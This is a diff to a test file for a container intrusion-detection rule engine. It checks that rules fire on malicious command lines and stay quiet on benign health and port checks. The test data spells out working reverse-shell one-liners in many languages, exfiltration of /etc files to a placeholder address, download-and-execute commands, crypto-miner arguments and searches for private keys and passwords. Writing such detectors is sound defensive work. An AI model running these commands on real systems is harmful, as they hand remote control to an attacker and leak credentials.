@@ -25,7 +25,13 @@ const CONTAINER: ContainerFacts = {
 };
 const SECOND = 1e9;
 const engine = RuleEngine.load(readShippedRules());
-const OVER_TIME = new Set(['Network scanned from a container', 'Surroundings explored in a container']);
+const OVER_TIME = new Set([
+  'Download handed to a shell',
+  'Named pipe joined with a network program',
+  'Network scanned from a container',
+  'Ports of a host scanned from a container',
+  'Surroundings explored in a container',
+]);
 
 /** A line as people write it: the first word names the program's file, quotes hold words together. */
 function program(line: string, more: Partial<ProcessFacts> = {}): ProcessFacts {
@@ -315,3 +321,151 @@ function writeOpen(bytes: Buffer, path: string, access: 0 | 1): void {
   bytes.writeUInt32LE(Buffer.byteLength(reversed), OPEN.path_length);
   bytes.write(reversed, OPEN.bytes, 'latin1');
 }
+
+/** The rules that hold for a program whose last words are one text, as shells and interpreters are given it. */
+const given = (words: readonly string[], more: Partial<ProcessFacts> = {}): string[] =>
+  told({ ...program(words[0] ?? ''), args: words.slice(1), ...more });
+
+test('shells that are turned over to the network are told in any language, and checks of ports and of health are not', () => {
+  const RULE = 'Shell turned over to the network';
+  const turned: readonly (readonly string[])[] = [
+    ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/9 0>&1'],
+    ['bash', '-c', 'sh -i >& /dev/udp/127.0.0.1/9 0>&1'],
+    ['bash', '-c', '0<&196;exec 196<>/dev/tcp/192.0.2.1/9; sh <&196 >&196 2>&196'],
+    ['bash', '-c', '/bin/bash -l > /dev/tcp/192.0.2.1/9 0<&1 2>&1'],
+    ['bash', '-c', 'exec 5<>/dev/tcp/192.0.2.1/9; cat <&5 | while read line; do $line 2>&5 >&5; done'],
+    ['bash', '-c', 'cat /etc/passwd > /dev/tcp/192.0.2.1/9'],
+    ['bash', '-c', 'tar cz /etc | base64 > /dev/tcp/192.0.2.1/9'],
+    ['zsh', '-c', 'zmodload zsh/net/tcp && ztcp 192.0.2.1 9 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'],
+    ['sh', '-c', 'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 9 >/tmp/f'],
+    ['sh', '-c', 'mknod /tmp/b p; telnet 192.0.2.1 9 0</tmp/b | sh 1>/tmp/b'],
+    ['sh', '-c', 'mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:9 > /tmp/s'],
+    ...['-e /bin/sh 192.0.2.1 9', '192.0.2.1 9 -e sh', '-lvpe 9 /bin/sh', '--sh-exec sh h 9', '--exec /bin/sh h 9'].map(
+      (words) => ['ncat', ...words.split(' ')],
+    ),
+    ['busybox', 'nc', '192.0.2.1', '9', '-e', '/bin/sh'],
+    ['socat', 'tcp-connect:192.0.2.1:9', 'exec:"bash -li",pty'],
+    ['socat', 'TCP:192.0.2.1:9', 'SYSTEM:sh'],
+    ['gawk', 'BEGIN{s="/inet/tcp/0/192.0.2.1/9";while((s|&getline c)>0)while((c|&getline)>0)print|&s}'],
+    ['python3', '-c', 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0);subprocess.call(["sh"])'],
+    ['python3', '-c', 'import pty,socket;s=socket.socket();pty.spawn("sh")'],
+    ['perl', '-e', 'use Socket;socket(S,2,1,6);open(STDIN,">&S");exec("/bin/sh -i");'],
+    ['perl', '-MIO::Socket', '-e', '$c=new IO::Socket::INET(PeerAddr,"h:9");system$_ while<>;'],
+    ['php', '-r', '$s=fsockopen("192.0.2.1",9);exec("sh <&3 >&3 2>&3");'],
+    ['ruby', '-rsocket', '-e', 'f=TCPSocket.open("h",9).to_i;exec sprintf("sh -i <&%d",f)'],
+    ['node', '-e', 'var n=require("net"),s=require("child_process").spawn("sh",[])'],
+    ['lua5.4', '-e', "t=require('socket').tcp();t:connect('h','9');os.execute('sh -i')"],
+  ];
+  for (const words of turned) assert.ok(given(words).includes(RULE), words.join(' '));
+  const ordinary: readonly (readonly string[])[] = [
+    ['bash', '-c', '</dev/tcp/db/5432'],
+    ['bash', '-c', ':> /dev/tcp/127.0.0.1/8080'],
+    ['bash', '-c', '(echo -n > /dev/tcp/db/5432) >/dev/null 2>&1'],
+    ['bash', '-c', 'cat < /dev/null > /dev/tcp/db/5432'],
+    ['bash', '-c', 'until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; exec /app/server'],
+    ['bash', '-c', 'timeout 1 bash -c "</dev/tcp/db/5432" || exit 1'],
+    [
+      'bash',
+      '-c',
+      `exec 3<>/dev/tcp/127.0.0.1/9000;echo -e 'GET /health/ready HTTP/1.1\\r\\n\\r\\n' >&3;cat <&3 | grep 200`,
+    ],
+    ['bash', '-c', `{ printf >&3 'GET /health HTTP/1.0\\r\\n\\r\\n'; cat <&3; } 3<>/dev/tcp/localhost/9000 | grep 200`],
+    ['nc', '-z', '-w1', 'my-cache-e', '6379'],
+    ['nc', '-zv', 'redis-cache', '6379'],
+    ['nc', '-w', '1', 'db', '5432'],
+    ['busybox', 'nc', '-z', 'db', '5432'],
+    ['socat', '-u', '/dev/null', 'TCP:db:5432'],
+    ['python3', '-c', 'import socket; socket.create_connection(("db", 5432))'],
+    ['python3', '-c', 'import urllib.request; urllib.request.urlopen("http://localhost/health")'],
+    ['node', '-e', 'require("http").get("http://localhost/health", r => process.exit(r.statusCode !== 200))'],
+    ['php', '-r', 'exit(@fsockopen("db", 3306) ? 0 : 1);'],
+    ['perl', '-MIO::Socket', '-e', 'exit !IO::Socket::INET->new("db:5432")'],
+  ];
+  for (const words of ordinary) assert.deepEqual(given(words), [], words.join(' '));
+});
+
+test('a shell without a terminal that is given nothing to do is told, scripts and their like are not', () => {
+  const RULE = 'Shell without a terminal waits for orders';
+  const node = program('/usr/bin/node', { pid: 50 });
+  const below = (words: readonly string[], parent = node): string[] =>
+    told({ ...program(words[0] ?? ''), args: words.slice(1) }, RECORD.exec, { line: [parent] });
+  for (const words of [['/bin/sh', '-i'], ['bash', '-li'], ['bash', '-l', '-i'], ['/bin/sh']])
+    assert.ok(below(words).includes(RULE), words.join(' '));
+  assert.ok(below(['/bin/sh'], program('/usr/bin/python3.11', { pid: 50 })).includes(RULE));
+  const orders = [['-c', 'true'], ['-e', '/app/run'], ['-s'], ['/app/run'], ['-ic', 'node x'], ['-l', '-c', 'env']];
+  for (const words of orders) assert.deepEqual(below(['bash', ...words]), [], words.join(' '));
+  assert.deepEqual(below(['/bin/sh'], program('/bin/bash', { pid: 50 })), [], 'of a shell, as in `echo x | sh`');
+});
+
+test('miners are known by what they are told, whatever they are called', () => {
+  const RULE = 'Crypto miner started';
+  for (const line of [
+    '/tmp/kworker -o pool.supportxmr.com:3333 -u 48abc -p x',
+    '/tmp/x --url stratum2+tcp://h:1',
+    '/tmp/x -o stratum+tcps://h:1',
+    '/tmp/x -P stratum1+ssl://0xabc@h:9433',
+    '/tmp/x -a rx/0 -o h:1',
+    '/tmp/x --algo ETHASH --pool eth.2miners.com:2020',
+    '/tmp/x --coin=monero --threads=4',
+    '/tmp/x --randomx-1gb-pages',
+    '/usr/bin/xmrig-notls',
+    '/usr/bin/lolMiner',
+    '/tmp/kdevtmpfsi',
+  ])
+    assert.ok(told(program(line)).includes(RULE), line);
+  for (const line of [
+    '/usr/bin/curl https://nanopool.org/',
+    '/opt/app/server --algo fast --coin-file /data/coins.json',
+    '/usr/bin/gzip -a file',
+    '/opt/stratum/server --config /etc/stratum.yaml',
+    '/usr/bin/openssl enc -a -in x',
+  ])
+    assert.deepEqual(told(program(line)), [], line);
+});
+
+test('packages that an interpreter installs, downloads on its line, and searches for keys are told', () => {
+  const cases: readonly (readonly [rule: string, words: readonly string[]])[] = [
+    ['Package manager run in a container', ['python3', '-m', 'pip', 'install', 'x']],
+    ['Package manager run in a container', ['python3', '/usr/bin/pip3', 'install', '--no-index', 'x']],
+    ['Package manager run in a container', ['pip3.11', 'install', 'x']],
+    ['Package manager run in a container', ['node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'install', 'x']],
+    ['Package manager run in a container', ['go', 'install', 'example.com/x@latest']],
+    [
+      'Download run at once',
+      ['python3', '-c', 'import urllib.request;exec(urllib.request.urlopen("http://h/x").read())'],
+    ],
+    ['Download run at once', ['perl', '-MLWP::Simple', '-e', 'eval get("http://h/x")']],
+    ['Download run at once', ['sh', '-c', 'curl -s http://h/x -o /tmp/x; sh /tmp/x']],
+    ['Attack tool started in a container', ['bash', '/tmp/linpeas.sh', '-a']],
+    ['Attack tool started in a container', ['python3', '/opt/sqlmap.py', '-u', 'http://h']],
+    ['Keys or passwords searched for', ['find', '/', '-name', 'id_rsa']],
+    ['Keys or passwords searched for', ['find', '/', '-iname', '*.pem']],
+    ['Keys or passwords searched for', ['grep', '-r', 'BEGIN RSA PRIVATE', '/etc']],
+    ['Keys or passwords searched for', ['grep', '-rni', 'password', '/']],
+    ['Program started through its loader', ['/lib64/ld-linux-x86-64.so.2', '/tmp/x']],
+  ];
+  for (const [rule, words] of cases) assert.ok(given(words).includes(rule), words.join(' '));
+  const ordinary: readonly (readonly string[])[] = [
+    ['python3', '-m', 'pip', 'list'],
+    ['python3', '-m', 'http.server'],
+    ['python3', '/app/install.py', 'add'],
+    ['node', '/app/server.js', 'install'],
+    ['go', 'version'],
+    ['sh', '-c', 'curl -s http://h/x -o /data/x.json; python3 /app/process.py /data/x.json'],
+    ['python3', '-c', 'import urllib.request; print(urllib.request.urlopen("http://localhost/").status)'],
+    ['find', '/var/log', '-name', '*.log', '-delete'],
+    ['find', '/etc/ssl', '-name', '*.pem'],
+    ['grep', '-r', 'password_file', '/etc/nginx'],
+    ['grep', 'token', '/app/config.yaml'],
+    ['bash', '/usr/local/bin/docker-entrypoint.sh', 'nginx'],
+    ['/lib64/ld-linux-x86-64.so.2', '--verify', '/bin/ls'],
+  ];
+  for (const words of ordinary) assert.deepEqual(given(words), [], words.join(' '));
+  assert.deepEqual(
+    told({ ...program('/lib64/ld-linux-x86-64.so.2'), args: ['/bin/ls'] }, RECORD.exec, {
+      line: [program('/usr/bin/ldd', { pid: 50 })],
+    }),
+    [],
+    'ldd asks what a program loads',
+  );
+});
